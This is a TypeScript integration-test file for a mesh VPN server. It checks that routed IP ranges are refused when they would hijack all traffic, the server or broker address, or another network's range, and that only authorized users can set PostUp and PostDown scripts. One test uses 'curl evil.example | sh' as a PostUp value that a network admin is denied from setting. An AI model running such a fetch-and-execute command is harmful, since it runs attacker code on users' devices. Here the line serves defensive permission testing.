import type { ApiNode } from '@netloom/contract';
import { beforeAll, describe, expect, it } from 'vitest';
import { addAccount, createSuperAdmin } from './support/accounts';
import { backends } from './support/backends';
import { registerHost } from './support/host-client';
import { errorBody, request } from './support/http';
import { createNetwork, defaultKeyToken } from './support/keys';
import { createClient, createGateway } from './support/remote-access';
import { useServer } from './support/server';

const SERVER_IP = '203.0.113.5';
const BROKER_IP = '198.51.100.9';

// Every host routes a client's extra ranges and an egress gateway's ranges into the mesh: none may
// take the server's or the broker's address, another network's addresses, or (for clients) all traffic.
describe.each(backends)('ranges hosts route through the mesh ($name)', (backend) => {
  const server = useServer(backend, {
    NETLOOM_API_HOST: `http://${SERVER_IP}:8081`,
    NETLOOM_BROKER_PUBLIC_URL: `wss://${BROKER_IP}/api/v1/mqtt`,
  });
  let token: string;
  let gateway: ApiNode;
  let egressNode: ApiNode;
  beforeAll(async () => {
    token = await createSuperAdmin(server());
    await createNetwork(server(), token, { netid: 'home', addressrange: '10.160.0.0/24', addressrange6: 'fd60::/64' });
    await createNetwork(server(), token, { netid: 'work', addressrange: '10.161.0.0/24', addressrange6: 'fd61::/64' });
    ({ gateway } = await createGateway(server(), token, 'home'));
    egressNode = (await registerHost(server().url, await defaultKeyToken(server(), token, 'home'))).nodes[0];
  });

  const createWith = (extraallowedips: string[]) =>
    request(server(), 'POST', `/api/extclients/home/${gateway.id}`, { token, json: { extraallowedips } });
  const egressWith = (ranges: string[]) =>
    request(server(), 'POST', `/api/nodes/home/${egressNode.id}/creategateway`, { token, json: { ranges } });

  it.each([
    [
      '0.0.0.0/0',
      'extra allowed IP 0.0.0.0/0 is a default route: every host would send all its traffic to this client; an internet gateway is the way to route all traffic',
    ],
    [
      '::/0',
      'extra allowed IP ::/0 is a default route: every host would send all its traffic to this client; an internet gateway is the way to route all traffic',
    ],
    [
      '203.0.113.0/24',
      `extra allowed IP 203.0.113.0/24 covers ${SERVER_IP}, the server's address: hosts would reach the server through this client and lose it when the client goes away`,
    ],
    [
      `${BROKER_IP}/32`,
      `extra allowed IP ${BROKER_IP}/32 covers ${BROKER_IP}, the broker's address: hosts would reach the broker through this client and lose it when the client goes away`,
    ],
    [
      '10.161.0.128/25',
      "extra allowed IP 10.161.0.128/25 overlaps network work's range 10.161.0.0/24: hosts in both networks would send that network's traffic to this client",
    ],
    [
      'fd61::/48',
      "extra allowed IP fd61::/48 overlaps network work's range fd61::/64: hosts in both networks would send that network's traffic to this client",
    ],
  ])('refuses a client routing %s, saying why', async (range, message) => {
    const reply = await createWith([range]);
    expect(reply.body).toEqual(errorBody(400, message));
    const client = await createClient(server(), token, 'home', gateway.id);
    const edit = await request(server(), 'PUT', `/api/extclients/home/${client.clientid}`, {
      token,
      json: { ...client, extraallowedips: [range] },
    });
    expect(edit.body).toEqual(errorBody(400, message));
  });

  it('accepts a client routing a site of its own, even a public one', async () => {
    const client = await createClient(server(), token, 'home', gateway.id, {
      extraallowedips: ['192.168.77.0/24', '8.8.8.8/32'],
    });
    expect(client.extraallowedips).toEqual(['192.168.77.0/24', '8.8.8.8/32']);
  });

  it.each([
    [
      `${SERVER_IP}/32`,
      `egress range ${SERVER_IP}/32 covers ${SERVER_IP}, the server's address: hosts would reach the server through this gateway and lose it when the gateway goes away`,
    ],
    [
      '10.161.0.0/16',
      "egress range 10.161.0.0/16 overlaps network work's range 10.161.0.0/24: hosts in both networks would send that network's traffic to this gateway",
    ],
  ])('refuses an egress gateway routing %s, saying why', async (range, message) => {
    expect((await egressWith(['192.168.90.0/24', range])).body).toEqual(errorBody(400, message));
    expect((await egressWith(['192.168.90.0/24'])).status).toBe(200);
  });

  describe('PostUp and PostDown', () => {
    let networkAdmin: string;
    beforeAll(async () => {
      networkAdmin = await addAccount(server(), 'home-admin', 'platform-user', ['home-network-admin-grp']);
    });

    it("are the owner's and platform admins' to set, not a network admin's on someone else's client", async () => {
      const client = await createClient(server(), token, 'home', gateway.id, { postup: 'echo up' });
      const path = `/api/extclients/home/${client.clientid}`;
      const scripted = await request(server(), 'PUT', path, {
        token: networkAdmin,
        json: { ...client, postup: 'curl evil.example | sh' },
      });
      expect(scripted.body).toEqual(
        errorBody(
          403,
          `only the client's owner and platform admins can change its PostUp and PostDown scripts, which run on the device that imports the config`,
        ),
      );
      const unchanged = await request(server(), 'PUT', path, {
        token: networkAdmin,
        json: { ...client, enabled: true },
      });
      expect(unchanged.status, unchanged.text).toBe(200);
      const own = await createClient(server(), networkAdmin, 'home', gateway.id, { postdown: 'echo down' });
      expect(own.postdown).toBe('echo down');
      const byAdmin = await request(server(), 'PUT', path, { token, json: { ...client, postup: 'echo again' } });
      expect(byAdmin.status, byAdmin.text).toBe(200);
    });
  });
});
